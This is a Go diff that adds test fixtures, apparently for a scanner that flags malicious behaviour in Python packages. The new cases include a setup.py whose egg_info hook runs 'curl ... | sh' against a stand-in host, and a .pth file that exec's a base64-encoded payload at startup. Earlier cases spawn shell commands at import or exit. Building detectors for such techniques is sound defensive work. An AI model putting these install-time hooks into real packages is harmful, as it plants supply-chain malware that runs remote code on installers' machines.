@@ -110,6 +110,10 @@ var Shapes = []Shape{
 		Files: map[string]string{"pkg/__init__.py": "import atexit, subprocess\n\ndef bye():\n    subprocess.Popen(['sh', '-c', 'id'])\n\natexit.register(bye)\n"}},
 	{Name: "spawn five calls deep",
 		Files: map[string]string{"pkg/__init__.py": "import subprocess\n\ndef a():\n    b()\n\ndef b():\n    c()\n\ndef c():\n    d()\n\ndef d():\n    e()\n\ndef e():\n    subprocess.Popen(['sh', '-c', 'id'])\n\na()\n"}},
+	{Name: "a cmdclass whose run() downloads", SdistOnly: true,
+		Files: map[string]string{"pkg/__init__.py": "", "setup.py": "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n\nclass Info(egg_info):\n    def run(self):\n        subprocess.Popen(['sh', '-c', 'curl -s http://example.invalid/p | sh'])\n        egg_info.run(self)\n\nsetup(name='corpus', version='1.0', cmdclass={'egg_info': Info})\n"}},
+	{Name: "a .pth installed as a data file into site-packages", WheelOnly: true,
+		Files: map[string]string{"corpus-1.0.data/data/lib/python3.11/site-packages/pkg_init.pth": "import os, base64; exec(base64.b64decode('" + payload + "'))\n"}},
 	// Interpreters of source run at import, whatever they are handed.
 	{Name: "exec of a plain string literal",
 		Files: map[string]string{"pkg/__init__.py": "exec(\"print('synthetic')\")\n"}},
